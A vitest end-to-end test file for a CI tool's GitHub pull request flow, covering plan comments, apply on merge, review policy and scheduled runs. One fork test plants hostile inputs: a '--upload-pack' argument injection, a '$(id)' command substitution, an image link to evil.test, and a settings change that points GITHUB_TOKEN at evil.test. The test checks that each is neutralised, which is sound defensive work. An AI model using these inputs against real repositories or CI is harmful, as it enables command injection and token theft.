import { readFileSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { Ajv2020 } from 'ajv/dist/2020.js'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { CiHost } from '../support/ci-host.ts'
import { ciHost } from '../support/ci-host.ts'
import type { E2e, World } from '../support/e2e.ts'
import { e2e } from '../support/e2e.ts'
import { edited, SHOP } from '../support/e2e-tree.ts'

let worlds: E2e
beforeAll(async () => {
	worlds = await e2e(SHOP)
})
afterAll(() => worlds.close())

const CUSTOMERS = edited(SHOP['models/customers.yaml'], 'name: Customers', 'name: All customers')

const schema = JSON.parse(readFileSync(path.join(import.meta.dirname, '..', '..', 'schemas', 'commands.json'), 'utf8'))
const ajv = new Ajv2020({ strict: false, allErrors: true }).addSchema(schema, 'commands')

/** What a document breaks of the shape that is published for its command. */
function misfits(command: string, document: unknown): readonly unknown[] {
	const validate = ajv.getSchema(`commands#/$defs/${command}`)
	return validate?.(document) ? [] : (validate?.errors ?? ['no shape is published'])
}

/** A world with a GitHub of its own. */
async function hosted(settings?: string): Promise<{ readonly world: World; readonly host: CiHost }> {
	const world = await worlds.world(settings === undefined ? {} : { settings })
	return { world, host: await ciHost(world.remote) }
}

/** Commits on a branch and pushes it to a ref of the remote; main stays checked out. */
function pushed(world: World, branch: string, files: Readonly<Record<string, string | null>>, ref = `refs/heads/${branch}`): string {
	world.git('checkout', '--quiet', ...(world.git('branch', '--list', branch) === '' ? ['-b', branch] : [branch]))
	world.write(files)
	world.git('add', '--all')
	world.git('commit', '--quiet', '--message', `On ${branch}`)
	world.git('push', '--quiet', '--force', 'origin', `HEAD:${ref}`)
	const id = world.git('rev-parse', 'HEAD')
	world.git('checkout', '--quiet', 'main')
	return id
}

/** Merges the branch as the host would; the commit that it became. */
function mergedHere(world: World, number: number): string {
	world.git('merge', '--quiet', '--no-ff', '-m', `Merge pull request #${number} from octocat/rename`, 'rename')
	world.git('push', '--quiet', 'origin', 'main')
	return world.git('rev-parse', 'HEAD')
}

describe('a pull request', () => {
	test('is planned in one comment that each push edits, and applied when it is merged', async () => {
		const { world, host } = await hosted()
		const ci = (event: 'pull_request' | 'push', number?: number) => world.runWith({ env: host.env(event, number) }, 'ci')
		const first = pushed(world, 'rename', { 'models/customers.yaml': CUSTOMERS })
		const number = await host.open('rename', {})
		await host.comment(number, '<!-- tideway plan -->\nThis is not yours')
		const planned = await ci('pull_request', number)
		expect(planned.code, planned.err).toBe(0)
		expect(host.check(first, 'tideway/plan')).toBe('completed success: 0 to add, 1 to change, 0 to delete in the workspace')
		const [, ours] = await host.comments(number)
		expect(ours?.by).toBe('octocat')
		expect(ours?.body).toContain('Plan: 0 to add, 1 to change, 0 to destroy.')
		expect(await world.effects()).toEqual([])

		const second = pushed(world, 'rename', { 'models/orders.yaml': 'name: [' })
		const broken = await ci('pull_request', number)
		expect(broken.code).toBe(1)
		expect(host.check(second, 'tideway/plan')).toBe('completed failure: 1 error in the files')
		const comments = await host.comments(number)
		expect(comments.map(({ id, by }) => [id, by])).toEqual([
			[expect.any(Number), 'hubot'],
			[ours?.id, 'octocat'],
		])
		expect(comments[1]?.body).toContain('models/orders.yaml')

		pushed(world, 'rename', { 'models/orders.yaml': SHOP['models/orders.yaml'] ?? null })
		const merge = mergedHere(world, number)
		await host.merged(number, merge)
		const applied = await ci('push')
		expect(applied.code, applied.err).toBe(0)
		expect(host.check(merge, 'tideway/apply')).toBe('completed success: 1 of 1 change done')
		expect((await host.comments(number)).at(-1)?.body).toContain('Apply complete!')
		expect((await world.plan()).changes).toEqual([])
		await host.close()
	})

	test('S22, P42: of a fork only the files are checked, without a credential; nothing that it says is more than text', async () => {
		const { world, host } = await hosted()
		const hostile = '--upload-pack=x <!-- tideway plan --> @everyone ![x](https://evil.test/x) ``` $(id)'
		const number = await host.open('evil', { title: hostile, body: hostile, isFromFork: true })
		const text = edited(SHOP['models/orders.yaml'], 'name: Orders', `name: ${JSON.stringify(hostile)}`)
		const settings = `${world.git('show', 'main:tideway.yaml')}\nconnections: { evil: { kind: token, host: evil.test, token: env:GITHUB_TOKEN } }\n`
		writeFileSync(path.join(world.clone, 'tideway.yaml'), settings.replaceAll(world.url, 'https://evil.test'))
		const head = pushed(world, 'evil', { 'models/orders.yaml': text, 'models/customers.yaml': null }, `refs/pull/${number}/head`)
		const summary = path.join(world.folder, 'summary.md')
		const env = { ...host.env('pull_request', number), HIGHTOUCH_TOKEN: undefined, GITHUB_STEP_SUMMARY: summary }
		const ran = await world.runWith({ env }, 'ci')
		expect(ran.code, ran.err).toBe(1)
		expect(ran.out).toContain('::error file=hightouch/syncs/customers-to-crm.yaml')
		expect(host.check(head, 'tideway/plan')).toMatch(/^completed failure: \d+ errors? in the files$/)
		const [comment] = await host.comments(number)
		expect(comment?.body).toContain('It comes from a fork')
		expect(comment?.body).toContain('It changes the settings')
		expect(readFileSync(summary, 'utf8')).toBe(comment?.body.slice(comment.body.indexOf('\n') + 1))
		expect(outsideOfCode(comment?.body ?? '')).not.toMatch(/evil\.test|@everyone|!\[/)
		expect(await world.effects()).toEqual([])
		await host.close()
	})

	test('P40, P41: a review of exactly the last commit lets it pass; rules and addresses are those of the branch', async () => {
		const { world, host } = await hosted('policy: { inbound_approval: true, max_deletes: 0 }')
		writeFileSync(path.join(world.clone, 'tideway.yaml'), world.git('show', 'main:tideway.yaml').replace(/^ *policy:.*$/m, ''))
		const first = pushed(world, 'rename', { 'models/customers.yaml': CUSTOMERS })
		const number = await host.open('rename', {})
		const ci = (event: 'pull_request' | 'push') =>
			world.runWith({ env: host.env(event, event === 'push' ? undefined : number) }, 'ci', '--json')
		await host.approve(number, first)
		expect((await ci('pull_request')).json).toMatchObject({ state: 'success' })
		const second = pushed(world, 'rename', { 'models/visits.yaml': edited(SHOP['models/visits.yaml'], 'name: Visits', 'name: All visits') })
		const waiting = (await ci('pull_request')).json
		expect(misfits('ci', waiting)).toEqual([])
		expect(waiting).toMatchObject({ state: 'pending', title: expect.stringContaining('waits for a review') })

		world.git('checkout', '--quiet', '--', '.')
		const merge = mergedHere(world, number)
		await host.merged(number, merge)
		const refused = await ci('push')
		expect([refused.code, refused.json], 'S23: what takes a rule back is judged by it').toMatchObject([6, { title: 'not applied' }])
		expect(await world.effects()).toEqual([])
		expect((await world.run('plan', '--json')).json.refusals).toMatchObject([{ problem: { code: 'APPROVAL_MISSING' } }])
		await host.approve(number, second)
		expect((await ci('push')).json).toMatchObject({ state: 'success', title: '2 of 2 changes done' })
		await host.close()
	})
})

/** What a host reads as Markdown: all but fences and code within lines. */
function outsideOfCode(body: string): string {
	return body.replace(/^(`{3,})diff\n[\s\S]*?\n\1$/gm, '').replace(/(`+)(?!`).*?[^`]\1(?!`)/g, '')
}

describe('outside of a pull request', () => {
	test('a schedule brings home what people changed, and nothing else; a dry run posts and writes nothing', async () => {
		const { world, host } = await hosted()
		await world.ui('update', 'model', 'visits', { name: 'Visits of a day' })
		world.commit({ 'models/customers.yaml': CUSTOMERS })
		const env = host.env('schedule')
		const before = world.refs()
		expect((await world.runWith({ env }, 'ci', '--dry-run')).out).toContain('1 change to be done')
		expect([world.refs(), host.asked.filter((call) => !call.startsWith('GET'))]).toEqual([before, []])
		const ran = await world.runWith({ env }, 'ci')
		expect(ran.code, ran.err).toBe(0)
		expect(world.files()['models/visits.yaml']).toContain('Visits of a day')
		expect(await world.effects()).toEqual([])
		await host.close()
	})
})
